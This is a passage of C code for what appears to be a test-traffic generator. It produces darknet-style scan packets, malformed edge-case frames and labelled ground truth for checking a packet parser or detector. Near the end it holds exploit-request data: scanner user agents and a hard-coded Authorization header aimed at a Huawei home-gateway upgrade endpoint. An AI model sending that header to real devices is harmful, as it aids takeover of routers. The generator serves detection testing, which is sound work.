    return udp_template(r, k, false, buf, ann);
}

/* IPv4 UDP probe. jumbo: build a frame of 1515..9000 bytes. small: payload <= maxsmall */
static void fill_v4_udp(gen_t *g, const src_t *s, bool jumbo, int maxsmall)
{
    rng_t *r = &g->r;
    uint32_t dst = dark4(r);
    uint16_t dport = port_from(r, WPICK(r, udp_ports));
    sigann_t ann;
    size_t n;
    memset(&ann, 0, sizeof(ann));
    if (jumbo) {
        do dport = (uint16_t)rrange(r, 1024, 65535); while (udp_rule_port(dport));
        n = rrange(r, 1515, MAX_FRAME) - 14 - 20 - 8 - (size_t)g->l2.ntags * 4;
        rfill(r, g->tmp, n);
    } else if (maxsmall >= 0) {
        n = rbelow(r, (uint32_t)maxsmall + 1);
        rfill(r, g->tmp, n);
        if (udp_rule_port(dport)) memset(g->tmp, 0, n);   /* zeros match no UDP rule */
    } else {
        n = udp_payload(r, dport, g->tmp, &ann);
    }
    uint16_t sport = rchance(r, 0.1) ? 53 : (uint16_t)rrange(r, 1024, 65535);
    spec_v4(g, s, dst);
    if (rchance(r, 0.3)) g->sp.fragword = 0x4000;
    l4_udp(&g->sp, sport, dport, g->tmp, n);
    g->sp.sig = ann;
}

/* an IPv4 header + 8 bytes quoted inside ICMP errors */
static size_t quote_v4(gen_t *g, const src_t *s, uint8_t *q)
{
    rng_t *r = &g->r;
    bool tcp = rchance(r, 0.6);
    q[0] = 0x45; q[1] = 0;
    put16(q + 2, tcp ? 44 : 28 + rbelow(r, 40));
    put16(q + 4, r16(r)); put16(q + 6, 0);
    q[8] = (uint8_t)rrange(r, 1, 8);
    q[9] = tcp ? 6 : 17;
    put32(q + 12, dark4(r));
    put32(q + 16, s->ip4);
    v4_hdr_csum(q);
    put16(q + 20, (uint16_t)rrange(r, 1024, 65535));
    put16(q + 22, tcp ? (rchance(r, 0.5) ? 80 : 443) : 53);
    put32(q + 24, r32(r));
    return 28;
}

static void fill_v4_icmp(gen_t *g, const src_t *s, int maxsmall)
{
    rng_t *r = &g->r;
    uint32_t dst = dark4(r);
    spec_v4(g, s, dst);
    uint32_t k = rbelow(r, 100);
    if (maxsmall >= 0) k = 0;
    if (k == 99) {
        /* any type and code: timestamp, address mask, redirect, unassigned */
        size_t n = maxsmall >= 0 ? 0 : rbelow(r, 48);
        rfill(r, g->tmp, n);
        l4_icmp(&g->sp, (uint8_t)rbelow(r, 256), (uint8_t)rbelow(r, 16), r32(r), g->tmp, n);
    } else if (k < 85 || k >= 98) {
        static const wv_t plens[] = {{0, 30}, {8, 10}, {32, 20}, {56, 40}};
        size_t n = maxsmall >= 0 ? rbelow(r, (uint32_t)maxsmall + 1) : WPICK(r, plens);
        rfill(r, g->tmp, n);
        uint8_t type = k >= 98 ? 0 : 8;   /* echo request, a little echo reply (backscatter) */
        l4_icmp(&g->sp, type, 0, (uint32_t)r16(r) << 16 | r16(r), g->tmp, n);
    } else {
        /* unreachable (3) or time exceeded (11) quoting a packet from the darknet */
        uint8_t type = k < 96 ? 3 : 11;
        uint8_t code = type == 3 ? (uint8_t)rbelow(r, 14) : (uint8_t)rbelow(r, 2);
        uint32_t rest = (type == 3 && code == 4) ? 1400 : 0;
        size_t n = quote_v4(g, s, g->tmp);
        l4_icmp(&g->sp, type, code, rest, g->tmp, n);
    }
}

/* inner IPv4 TCP SYN (for GRE / IPIP) written to out, returns length */
static size_t inner_v4_syn(gen_t *g, const src_t *s, uint8_t *out)
{
    rng_t *r = &g->r;
    spec_t *in = &g->inner;
    SPEC_RESET(in);
    in->ver = 4;
    in->s4 = s->ip4 ^ 0x00010000u;
    in->d4 = dark4(r);
    in->id = r16(r);
    in->ttl = 64;
    uint32_t seq = rchance(r, 0.5) ? in->d4 : r32(r);
    l4_tcp(in, (uint16_t)rrange(r, 1024, 65535), (uint16_t)WPICK(r, mirai_ports), seq, 0, TH_SYN, r16(r),
           NULL, 0, 0, r);
    size_t l4off;
    return emit_ip(out, in, &l4off, NULL);
}

static size_t inner_v6_syn(gen_t *g, const src_t *s, uint8_t *out)
{
    rng_t *r = &g->r;
    spec_t *in = &g->inner;
    SPEC_RESET(in);
    in->ver = 6;
    memcpy(in->s6, s->ip6, 16);
    dark6(r, in->d6);
    in->hlim = 64;
    l4_tcp(in, (uint16_t)rrange(r, 1024, 65535), 22, r32(r), 0, TH_SYN, 65535, opt_mss, 4, 0, r);
    size_t l4off;
    return emit_ip(out, in, &l4off, NULL);
}

/* IPv4 with other protocols (never 1, 6, 17) */
static void fill_v4_other(gen_t *g, const src_t *s, int maxsmall)
{
    rng_t *r = &g->r;
    static const wv_t protos[] = {{47, 30}, {50, 20}, {132, 15}, {4, 10}, {41, 5}, {2, 4}, {51, 3},
                                  {89, 3}, {103, 2}, {0, 2}, {256, 6}};
    uint32_t dst = dark4(r);
    uint32_t pr = WPICK(r, protos);
    if (maxsmall >= 0) pr = (uint32_t[]){47, 50, 2, 256}[rbelow(r, 4)];
    uint8_t *t = g->tmp;
    size_t n = 0;
    if (pr == 256) {
        do pr = rbelow(r, 256); while (pr == 1 || pr == 6 || pr == 17);
        n = rbelow(r, maxsmall >= 0 ? (uint32_t)maxsmall + 1 : 65);
        rfill(r, t, n);
    } else if (pr == 47) {                       /* GRE carrying IPv4 */
        put16(t, 0); put16(t + 2, 0x0800);
        n = maxsmall >= 0 ? 4 : 4 + inner_v4_syn(g, s, t + 4);
    } else if (pr == 50) {                       /* ESP */
        put32(t, r32(r)); put32(t + 4, rrange(r, 1, 1000));
        n = 8 + (maxsmall >= 0 ? 0 : 16 * rrange(r, 2, 8));
        rfill(r, t + 8, n - 8);
    } else if (pr == 132) {                      /* SCTP INIT */
        static const uint16_t sp_ports[] = {2905, 36412, 3868, 9899, 5060, 80};
        put16(t, (uint16_t)rrange(r, 1024, 65535));
        put16(t + 2, sp_ports[rbelow(r, 6)]);
        put32(t + 4, 0); put32(t + 8, r32(r));
        t[12] = 1; t[13] = 0; put16(t + 14, 20);
        put32(t + 16, r32(r)); put32(t + 20, 106496); put16(t + 24, 10); put16(t + 26, 2048);
        put32(t + 28, r32(r));
        n = 32;
    } else if (pr == 4) {                        /* IPIP */
        n = inner_v4_syn(g, s, t);
    } else if (pr == 41) {                       /* 6in4 */
        n = inner_v6_syn(g, s, t);
    } else if (pr == 2) {                        /* IGMP query */
        t[0] = 0x11; t[1] = 100; put16(t + 2, 0); put32(t + 4, 0);
        n = 8;
    } else {
        n = 12 + rbelow(r, 48);
        rfill(r, t, n);
    }
    spec_v4(g, s, dst);
    l4_raw(&g->sp, (uint8_t)pr, t, n);
}

/* IPv4 fragments (first: MF, offset 0, L4 header present; non-first: offset > 0) */
static void fill_v4_frag(gen_t *g, const src_t *s, bool first, size_t maxpay)
{
    rng_t *r = &g->r;
    size_t tagb = (size_t)g->l2.ntags * 4;     /* keep tagged frames <= 1514 too */
    if (first) {
        uint32_t k = rbelow(r, 10);
        if (k < 6) {
            /* the probe's template, then filler that no rule can match */
            size_t n = rrange(r, 600, (uint32_t)(1472 - tagb));
            uint16_t dport = rchance(r, 0.5) ? 53 : port_from(r, WPICK(r, udp_ports));
            sigann_t ann;
            size_t t = udp_payload(r, dport, g->tmp, &ann);
            CHECK(t <= n);
            rfill_hi(r, g->tmp + t, n - t);
            spec_v4(g, s, dark4(r));
            l4_udp(&g->sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
            g->sp.sig = ann;
            put16(g->sp.l4 + 4, (uint32_t)(8 + n + 8 * rrange(r, 1, 200)));   /* whole datagram */
        } else if (k < 8) {
            fill_v4_syn(g, s, -1);
            size_t extra = 8 * rrange(r, 1, 100);
            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
            g->sp.l4len += extra;
        } else {
            size_t n = 8 * rrange(r, 60, (uint32_t)(184 - tagb / 4));
            rfill(r, g->tmp, n);
            spec_v4(g, s, dark4(r));
            l4_icmp(&g->sp, 8, 0, r32(r), g->tmp, n);
        }
        g->sp.fragword = 0x2000;
    } else {
        static const wv_t protos[] = {{17, 60}, {6, 20}, {1, 10}, {47, 5}, {50, 5}};
        uint8_t pr = (uint8_t)WPICK(r, protos);
        size_t n = maxpay ? rbelow(r, (uint32_t)maxpay + 1)
                 : rchance(r, 0.2) ? rrange(r, 1, (uint32_t)(1480 - tagb)) : 8 * rrange(r, 1, (uint32_t)(185 - tagb / 4));
        bool mf = rchance(r, 0.5);
        uint32_t maxoff = (uint32_t)((65535 - 20 - n) / 8);
        if (maxoff > 8191) maxoff = 8191;
        uint32_t off = rchance(r, 0.7) ? rrange(r, 1, 185) : rrange(r, 1, maxoff);
        rfill(r, g->tmp, n);
        spec_v4(g, s, dark4(r));
        l4_raw(&g->sp, pr, g->tmp, n);
        g->sp.fragword = (uint16_t)((mf ? 0x2000 : 0) | off);
    }
}

/* IPv6 packets: TCP SYN to 23/22/80..., SYN-ACK backscatter, UDP 53, ICMPv6,
 * optionally behind an extension header chain.  ext: -1 random, 0 none,
 * 1 chain without non-first fragment, 2 chain containing a non-first fragment.
 * upper: -1 random, 6, 17, 58.  If tiny >= 0, a non-first fragment carries
 * at most tiny bytes. */
static void fill_v6(gen_t *g, const src_t *s, int ext, int upper, int tiny)
{
    rng_t *r = &g->r;
    spec_v6(g, s);
    spec_t *sp = &g->sp;
    if (ext < 0) ext = rchance(r, 0.25) ? (rchance(r, 0.2) ? 2 : 1) : 0;
    if (upper < 0) {
        uint32_t k = rbelow(r, 100);
        upper = k < 60 ? 6 : k < 80 ? 17 : 58;
    }
    if (ext) {
        int n = 0;
        if (rchance(r, 0.4)) sp->ext[n++] = (ext_t){0, 0, 8, 0};
        int more = (int)rbelow(r, 3);
        if (n == 0 && more == 0) more = 1;
        bool havefrag = false;
        for (int i = 0; i < more; i++) {
            uint32_t t = rbelow(r, 3);
            if (t == 2 && havefrag) t = 1;
            if (t == 0) sp->ext[n++] = (ext_t){43, 0, (uint16_t)(rchance(r, 0.5) ? 8 : 24), 0};
            else if (t == 1) sp->ext[n++] = (ext_t){60, 0, (uint16_t)(rchance(r, 0.5) ? 8 : 16), 0};
            else { sp->ext[n++] = (ext_t){44, 1, 8, 0}; havefrag = true; }
        }
        if (ext == 2) {
            if (!havefrag) {
                int pos = (int)rbelow(r, (uint32_t)n + 1);
                if (pos == 0 && n > 0 && sp->ext[0].type == 0) pos = 1;
                memmove(&sp->ext[pos + 1], &sp->ext[pos], sizeof(ext_t) * (size_t)(n - pos));
                sp->ext[pos] = (ext_t){44, 1, 8, 0};
                n++;
            }
            for (int i = 0; i < n; i++) {
                if (sp->ext[i].type != 44) continue;
                sp->ext[i].off = (uint16_t)rrange(r, 1, 800);
                sp->ext[i].m = (uint8_t)rbelow(r, 2);
                /* nothing after a non-first fragment header is present */
                uint8_t nh = i + 1 < n ? sp->ext[i + 1].type : (uint8_t)upper;
                n = i + 1;
                size_t len = tiny >= 0 ? rbelow(r, (uint32_t)tiny + 1) : 8 * rrange(r, 1, 150);
                rfill(r, g->tmp, len);
                sp->next_ext = n;
                l4_raw(sp, nh, g->tmp, len);
                return;
            }
        }
        sp->next_ext = n;
    }
    if (upper == 6) {
        static const wv_t p6[] = {{23, 35}, {22, 25}, {80, 20}, {443, 8}, {8080, 4}, {65536, 8}};
        if (rchance(r, 0.06)) {
            l4_tcp(sp, rchance(r, 0.5) ? 80 : 443, (uint16_t)rrange(r, 1024, 65535), r32(r), r32(r),
                   TH_SYN | TH_ACK, 64800, opt_mss_ws, 8, 0, r);
        } else {
            const uint8_t *o; int ol;
            tcp_opts(r, s->optstyle, &o, &ol);
            l4_tcp(sp, (uint16_t)rrange(r, 1024, 65535), port_from(r, WPICK(r, p6)), r32(r), 0, TH_SYN,
                   (uint16_t)(rchance(r, 0.5) ? 65535 : 28800), o, ol, 0, r);
        }
    } else if (upper == 17) {
        uint16_t dport = rchance(r, 0.8) ? 53 : rchance(r, 0.5) ? 123 : (uint16_t)rrange(r, 1, 65535);
        sigann_t ann;
        size_t n = udp_payload(r, dport, g->tmp, &ann);
        l4_udp(sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
        sp->sig = ann;
    } else {
        uint32_t k = rbelow(r, 10);
        size_t n = rchance(r, 0.5) ? 0 : 56;
        rfill(r, g->tmp, n);
        if (k < 8) l4_icmp(sp, 128, 0, r32(r), g->tmp, n);
        else if (k < 9) l4_icmp(sp, 129, 0, r32(r), g->tmp, n);
        else if (rchance(r, 0.7)) l4_icmp(sp, 1, (uint8_t)rbelow(r, 5), 0, g->tmp, n);
        else l4_icmp(sp, (uint8_t)rbelow(r, 256), (uint8_t)rbelow(r, 8), r32(r), g->tmp, n);
    }
}

/* ------------------------------------------------------------------------ */
/* packet generation: normal categories                                      */

/* Shares of all frames: edge cases EDGE_SHARE first (unless --no-edge); the
 * rest is a scan-wave SYN while a wave runs (one port per wave, or for a
 * sweeping wave a popular-or-random port per packet), else one of these categories
 * (weights in 1/10000 of the non-edge traffic). */
#define EDGE_SHARE 0.03
enum { C_SYN, C_BACK, C_UDP, C_ICMP, C_V6, C_OTHER, C_FRAG4 };
static const wv_t cat_w[] = {
    {C_SYN, 6400}, {C_BACK, 820}, {C_UDP, 1240}, {C_ICMP, 560}, {C_V6, 410}, {C_OTHER, 310},
    {C_FRAG4, 260},
};

/* Builds a "base" packet used by edge kinds; sets ex from the spec. */
enum { B_V4_TCP, B_V4_UDP, B_V4_ANY, B_V6_TCP, B_V6_UDP, B_V6_ANY, B_V4_SMALL };

static void build_ip(gen_t *g, frame_t *fr, expect_t *ex)
{
    frame_ip(fr, &g->l2, &g->sp);
    truth_from_spec(ex, &g->sp);
}

static void make_base(gen_t *g, frame_t *fr, expect_t *ex, int base, const src_t *s)
{
    rng_t *r = &g->r;
    switch (base) {
    case B_V4_TCP:
        if (rchance(r, 0.85)) fill_v4_syn(g, s, -1); else fill_v4_backscatter(g, s);
        break;
    case B_V4_UDP:
        fill_v4_udp(g, s, false, -1);
        break;
    case B_V4_ANY: {
        uint32_t k = rbelow(r, 4);
        if (k == 0) fill_v4_syn(g, s, -1);
        else if (k == 1) fill_v4_udp(g, s, false, -1);
        else if (k == 2) fill_v4_icmp(g, s, -1);
        else fill_v4_other(g, s, -1);
        break;
    }
    case B_V4_SMALL: {           /* a frame shorter than 60 bytes */
        int budget = 25 - 4 * g->l2.ntags;        /* IP payload bytes that keep the frame < 60 */
        uint32_t k = rbelow(r, 4);
        if (k == 0) fill_v4_syn(g, s, -1);
        else if (k == 1) fill_v4_udp(g, s, false, budget - 8);
        else if (k == 2) fill_v4_icmp(g, s, budget - 8);
        else fill_v4_other(g, s, budget);
        if (g->sp.next == 6) {   /* strip TCP options */
            const uint8_t *o = NULL;
            uint8_t fl = g->sp.tflags;
            uint8_t *p = g->sp.l4;
            uint16_t sport = (uint16_t)(p[0] << 8 | p[1]), win = (uint16_t)(p[14] << 8 | p[15]);
            l4_tcp(&g->sp, sport, g->sp.dport, g->sp.seq, 0, fl, win, o, 0, 0, r);
        }
        break;
    }
    case B_V6_TCP: fill_v6(g, s, rchance(r, 0.2) ? 1 : 0, 6, -1); break;
    case B_V6_UDP: fill_v6(g, s, rchance(r, 0.2) ? 1 : 0, 17, -1); break;
    case B_V6_ANY: fill_v6(g, s, -1, -1, -1); break;
    default: die_internal("base");
    }
    build_ip(g, fr, ex);
}

static int next_edge_kind(gen_t *g)
{
    if (g->edge_pos == 0) {               /* new shuffled cycle over all kinds */
        for (int i = 0; i < E_COUNT; i++) g->edge_perm[i] = i;
        for (int i = E_COUNT - 1; i > 0; i--) {
            int j = (int)rbelow(&g->r, (uint32_t)i + 1);
            int t = g->edge_perm[i]; g->edge_perm[i] = g->edge_perm[j]; g->edge_perm[j] = t;
        }
    }
    int k = g->edge_perm[g->edge_pos];
    g->edge_pos = (g->edge_pos + 1) % E_COUNT;
    return k;
}

/* capture truncation: keep the first n bytes, remember the wire length */
static void cut(frame_t *fr, size_t n)
{
    CHECK(n <= fr->len);
    fr->len = n;
}

static void ip_options(rng_t *r, spec_t *sp, int ihl)
{
    int n = (ihl - 5) * 4;
    uint8_t *o = sp->opt;
    memset(o, 0, (size_t)n);
    uint32_t v = rbelow(r, 3);
    if (n == 4 || v == 0) {                       /* router alert, NOPs, EOL */
        o[0] = 148; o[1] = 4;
        for (int i = 4; i < n - 1; i++) o[i] = 1;
    } else if (v == 1) {                          /* record route */
        int k = (n - 4) / 4;
        o[0] = 7; o[1] = (uint8_t)(3 + 4 * k); o[2] = 4;
    } else {                                      /* timestamp */
        o[0] = 68; o[1] = (uint8_t)n; o[2] = 5; o[3] = 0;
    }
    sp->optlen = n;
}

/* Edge cases.  Returns nothing; sets fr and ex.  The expected class comes
 * from edge_tab[kind] and overrides what the base packet would count as. */
static void gen_edge(gen_t *g, frame_t *fr, expect_t *ex, const src_t *s)
{
    rng_t *r = &g->r;
    int kind = next_edge_kind(g);
    int stop_proto = -1;
    int64_t iplen = -1;             /* IP length field value written here, if rewritten */
    g->kind_count[kind]++;
    uint8_t *b = fr->b;
    memset(ex, 0, sizeof(*ex));

    switch (kind) {
    case E_ARP: {
        memset(g->l2.dmac, 0xff, 6);
        size_t o = put_l2(b, &g->l2, 0x0806);
        put16(b + o, 1); put16(b + o + 2, 0x0800); b[o + 4] = 6; b[o + 5] = 4; put16(b + o + 6, 1);
        memcpy(b + o + 8, g->l2.smac, 6); put32(b + o + 14, s->ip4);
        memset(b + o + 18, 0, 6); put32(b + o + 24, dark4(r));
        fr->len = o + 28;
        if (rchance(r, 0.5) && fr->len < 60) { memset(b + fr->len, 0, 60 - fr->len); fr->len = 60; }
        break;
    }
    case E_LLDP: {
        static const uint8_t lldp_mac[6] = {0x01, 0x80, 0xc2, 0x00, 0x00, 0x0e};
        memcpy(g->l2.dmac, lldp_mac, 6);
        size_t o = put_l2(b, &g->l2, 0x88CC);
        b[o++] = 0x02; b[o++] = 7; b[o++] = 4; memcpy(b + o, g->l2.smac, 6); o += 6;   /* chassis */
        b[o++] = 0x04; b[o++] = 7; b[o++] = 3; memcpy(b + o, g->l2.smac, 6); o += 6;   /* port */
        b[o++] = 0x06; b[o++] = 2; put16(b + o, 120); o += 2;                        /* ttl */
        b[o++] = 0x0a; b[o++] = 6; memcpy(b + o, "edge-1", 6); o += 6;                /* sysname */
        b[o++] = 0; b[o++] = 0;
        fr->len = o;
        break;
    }
    case E_OTHER_ETHERTYPE: {
        static const uint16_t ets[] = {0x8137, 0x9100, 0x8847, 0x888E, 0x8863, 0x88E5, 0x0842, 0x86DE};
        uint16_t et;
        uint32_t v = rbelow(r, 10);
        if (v < 6) et = ets[rbelow(r, 8)];
        else if (v < 8) et = (uint16_t)rrange(r, 0x0001, 0x05DC);             /* 802.3 length */
        else do et = (uint16_t)rrange(r, 0x0600, 0xFFFF);
             while (et == 0x0800 || et == 0x86DD || et == 0x8100 || et == 0x88A8);
        size_t o = put_l2(b, &g->l2, et);
        size_t n;
        if (et == 0x8847 || et == 0x86DE) {        /* MPLS / random carrying an IPv4 SYN */
            fill_v4_syn(g, s, -1);
            put32(b + o, (uint32_t)(rrange(r, 16, 100000) << 12) | 0x100 | 64);
            size_t l4o;
            n = 4 + emit_ip(b + o + 4, &g->sp, &l4o, NULL);
        } else {
            n = rrange(r, 28, 120);
            rfill(r, b + o, n);
        }
        fr->len = o + n;
        break;
    }
    case E_VLAN3: {
        g->l2.ntags = 3;
        g->l2.tpid[0] = rchance(r, 0.5) ? 0x88A8 : 0x8100;
        g->l2.tpid[1] = 0x8100;
        g->l2.tpid[2] = rchance(r, 0.7) ? 0x8100 : 0x88A8;
        for (int i = 0; i < 3; i++) g->l2.tci[i] = rand_tci(r);
        fill_v4_syn(g, s, -1);
        frame_ip(fr, &g->l2, &g->sp);
        break;
    }
    case E_SHORT:
        fr->len = rrange(r, 1, 13);
        memcpy(b, g->l2.dmac, 6);
        memcpy(b + 6, g->l2.smac, 6);
        b[12] = 0x08; b[13] = 0x00;
        break;
    case E_VLAN_CUT: {
        l2_t *l = &g->l2;
        fill_v4_syn(g, s, -1);
        if (rchance(r, 0.5)) {          /* first tag cut */
            l->ntags = 1; l->tpid[0] = rchance(r, 0.7) ? 0x8100 : 0x88A8; l->tci[0] = rand_tci(r);
            frame_ip(fr, l, &g->sp);
            cut(fr, rrange(r, 14, 17));
        } else {                        /* QinQ, inner tag cut */
            l->ntags = 2; l->tpid[0] = 0x88A8; l->tpid[1] = 0x8100;
            l->tci[0] = rand_tci(r); l->tci[1] = rand_tci(r);
            frame_ip(fr, l, &g->sp);
            cut(fr, rrange(r, 18, 21));
        }
        break;
    }
    case E_V4_SHORT:
        make_base(g, fr, ex, B_V4_ANY, s);
        cut(fr, fr->l3 + rbelow(r, 20));
        break;
    case E_V4_BADVER: {
        static const uint8_t vers[] = {6, 6, 6, 0, 5, 7, 15, 1};
        make_base(g, fr, ex, B_V4_ANY, s);
        b[fr->l3] = (uint8_t)((vers[rbelow(r, 8)] << 4) | (b[fr->l3] & 0x0f));
        break;
    }
    case E_V4_IHL_LT5:
        make_base(g, fr, ex, B_V4_ANY, s);
        b[fr->l3] = (uint8_t)(0x40 | rbelow(r, 5));
        break;
    case E_V4_IHL_CUT: {
        int ihl = (int)rrange(r, 6, 15);
        make_base(g, fr, ex, B_V4_TCP, s);
        /* rebuild with real options, then cut inside them */
        ip_options(r, &g->sp, ihl);
        build_ip(g, fr, ex);
        cut(fr, fr->l3 + rrange(r, 20, (uint32_t)ihl * 4 - 1));
        break;
    }
    case E_V4_TOTLEN_LT_IHL: {
        make_base(g, fr, ex, B_V4_ANY, s);
        if (rchance(r, 0.3)) { ip_options(r, &g->sp, (int)rrange(r, 6, 15)); build_ip(g, fr, ex); }
        uint32_t hl = (uint32_t)(b[fr->l3] & 0x0f) * 4;
        put16(b + fr->l3 + 2, rchance(r, 0.25) ? 0 : rbelow(r, hl));
        v4_hdr_csum(b + fr->l3);
        break;
    }
    case E_V4_OPTIONS: {
        int ihl = (int)rrange(r, 6, 15);
        uint32_t k = rbelow(r, 3);
        if (k == 0) fill_v4_syn(g, s, -1);
        else if (k == 1) fill_v4_udp(g, s, false, -1);
        else fill_v4_icmp(g, s, -1);
        ip_options(r, &g->sp, ihl);
        build_ip(g, fr, ex);
        break;
    }
    case E_V6_SHORT:
        make_base(g, fr, ex, B_V6_ANY, s);
        cut(fr, fr->l3 + rbelow(r, 40));
        break;
    case E_V6_BADVER: {
        static const uint8_t vers[] = {4, 4, 0, 5, 7, 15};
        make_base(g, fr, ex, B_V6_ANY, s);
        b[fr->l3] = (uint8_t)((vers[rbelow(r, 6)] << 4) | (b[fr->l3] & 0x0f));
        break;
    }
    case E_TCP_CUT:
        make_base(g, fr, ex, rchance(r, 0.7) ? B_V4_TCP : B_V6_TCP, s);
        cut(fr, fr->l4 + rbelow(r, 20));
        break;
    case E_UDP_CUT:
        make_base(g, fr, ex, rchance(r, 0.7) ? B_V4_UDP : B_V6_UDP, s);
        cut(fr, fr->l4 + rbelow(r, 8));
        break;
    case E_ICMP_CUT:         /* less than type, code and checksum */
        if (rchance(r, 0.7)) fill_v4_icmp(g, s, -1); else fill_v6(g, s, 0, 58, -1);
        build_ip(g, fr, ex);
        cut(fr, fr->l4 + rbelow(r, 4));
        break;
    case E_TCP_BEYOND_TOTLEN: {
        make_base(g, fr, ex, B_V4_TCP, s);
        uint32_t hl = 20 + (uint32_t)g->sp.optlen;
        iplen = hl + rbelow(r, 20);
        put16(b + fr->l3 + 2, (uint32_t)iplen);
        v4_hdr_csum(b + fr->l3);
        if (fr->len < 60 && rchance(r, 0.5)) { memset(b + fr->len, 0, 60 - fr->len); fr->len = fr->wire = 60; }
        break;
    }
    case E_UDP_BEYOND_LEN:
        if (rchance(r, 0.6)) {
            make_base(g, fr, ex, B_V4_UDP, s);
            uint32_t hl = 20 + (uint32_t)g->sp.optlen;
            iplen = hl + rbelow(r, 8);
            put16(b + fr->l3 + 2, (uint32_t)iplen);
            v4_hdr_csum(b + fr->l3);
        } else {
            fill_v6(g, s, 0, 17, -1);
            build_ip(g, fr, ex);
            uint32_t plen = rbelow(r, 8);
            put16(b + fr->l3 + 4, plen);
            iplen = 40 + plen;
        }
        break;
    case E_V6_PLEN_SMALL: {
        fill_v6(g, s, 0, 6, -1);
        build_ip(g, fr, ex);
        uint32_t plen = rbelow(r, 20);
        put16(b + fr->l3 + 4, plen);
        iplen = 40 + plen;
        break;
    }
    case E_V6_EXT_PAST: {
        fill_v6(g, s, 1, -1, -1);
        build_ip(g, fr, ex);
        spec_t *sp = &g->sp;
        int j = (int)rbelow(r, (uint32_t)sp->next_ext);
        /* a random fragment offset on a cut fragment header is fine:
           the header is not whole, so the walk stops before reading it */
        if (sp->ext[j].type == 44 && rchance(r, 0.5)) {
            put16(b + fr->extoff[j] + 2, (uint32_t)(rrange(r, 1, 8191) << 3) | 1);
        }
        size_t endpos = fr->extoff[j] + rbelow(r, sp->ext[j].len);     /* IP end inside header j */
        stop_proto = sp->ext[j].type;
        if (rchance(r, 0.5)) {
            uint32_t plen = (uint32_t)(endpos - fr->l3 - 40);
            put16(b + fr->l3 + 4, plen);                                   /* payload length too small */
            iplen = 40 + plen;
        } else {
            cut(fr, endpos);                                               /* capture ends inside */
        }
        break;
    }
    case E_PAD60: {
        g->l2.ntags = g->l2.ntags ? 1 : 0;
        g->l2.tpid[0] = 0x8100;
        make_base(g, fr, ex, B_V4_SMALL, s);
        CHECK(fr->len < 60);
        memset(b + fr->len, 0, 60 - fr->len);
        fr->len = fr->wire = 60;
        break;
    }
    case E_SNAP_TRUNC: {
        uint32_t k = rbelow(r, 4);
        if (k == 0) {        /* TCP with payload, cut in the payload */
            src_t s2 = *s;
            s2.fam = F_ORD;
            fill_v4_syn(g, &s2, -1);
            g->sp.tflags = TH_PSH | TH_ACK;
            g->sp.l4[13] = TH_PSH | TH_ACK;
            size_t extra = rrange(r, 100, 1400);
            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
            g->sp.l4len += extra;
            build_ip(g, fr, ex);
            cut(fr, fr->l4 + 20 + rbelow(r, (uint32_t)(fr->len - fr->l4 - 20)));
        } else if (k == 1) { /* UDP v4 or v6 cut in payload */
            if (rchance(r, 0.5)) fill_v4_udp(g, s, false, -1); else fill_v6(g, s, 0, 17, -1);
            size_t extra = rrange(r, 32, (uint32_t)(1400 - g->sp.l4len));
            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
            g->sp.l4len += extra;
            put16(g->sp.l4 + 4, (uint32_t)g->sp.l4len);
            build_ip(g, fr, ex);
            /* never inside a declared match's [lo, hi) */
            cut(fr, fr->l4 + 8 + pick_keep(r, &g->sp.sig, fr->len - fr->l4 - 8));
        } else if (k == 2) { /* ICMP after its type, code and checksum; other anywhere after the IP header */
            bool icmp = rchance(r, 0.5);
            if (icmp) fill_v4_icmp(g, s, -1); else fill_v4_other(g, s, -1);
            build_ip(g, fr, ex);
            size_t keep = icmp ? 4 : 0;
            if (fr->len > fr->l4 + keep) cut(fr, fr->l4 + keep + rbelow(r, (uint32_t)(fr->len - fr->l4 - keep)));
        } else {             /* IPv4 total length larger than the frame */
            make_base(g, fr, ex, B_V4_ANY, s);
            uint32_t lo = (uint32_t)(fr->len - fr->l3 + 1), hi = lo > 1508 ? lo : 1508;
            iplen = rchance(r, 0.5) ? 65535 : rrange(r, lo, hi);
            put16(b + fr->l3 + 2, (uint32_t)iplen);
            v4_hdr_csum(b + fr->l3);
        }
        break;
    }
    case E_TCP_ODD_DOFF: {
        make_base(g, fr, ex, rchance(r, 0.8) ? B_V4_TCP : B_V6_TCP, s);
        uint8_t doff = rchance(r, 0.6) ? (uint8_t)rbelow(r, 5) : 15;
        b[fr->l4 + 12] = (uint8_t)(doff << 4 | (b[fr->l4 + 12] & 0x0f));
        ex->l4hdr = (uint16_t)(doff * 4);               /* < 20: no payload; 60: past the segment */
        break;
    }
    case E_FRAG_TINY:
        if (rchance(r, 0.6)) fill_v4_frag(g, s, false, 19);
        else fill_v6(g, s, 2, rchance(r, 0.5) ? 6 : 17, 19);
        build_ip(g, fr, ex);
        break;
    default:
        die_internal("edge kind");
    }
    if (fr->wire < fr->len) fr->wire = fr->len;
    truth_apply_class(ex, edge_tab[kind].cls, stop_proto);
    if (iplen >= 0) {
        CHECK(ex->cat == CAT_V4 || ex->cat == CAT_V6);
        CHECK(iplen <= (ex->cat == CAT_V4 ? 65535 : 65535 + 40));
        ex->iplen = (uint32_t)iplen;
    }
}

/* ------------------------------------------------------------------------ */
/* payload share: exploit requests over TCP, probes over UDP, decoys         */

#define PAYLOAD_SHARE 0.015     /* default share of the frames that are not edge cases */

static const char *const http_ua[] = {
    "Hello, world", "Mozilla/5.0", "Hello World", "python-requests/2.27.1", "Go-http-client/1.1", "curl/7.68.0",
    "Wget(linux)", "Mozila/5.0", "XTC", "r00ts3c-owned-you", "HUAWEI-HG532e/1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
};
#define N_UA (sizeof(http_ua) / sizeof(http_ua[0]))

static const char huawei_auth[] =
    "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", "
    "nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", "
    "response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, "
    "cnonce=\"248d1a2560100669\"";

static void pc_ip(rng_t *r, pc_t *c)
{
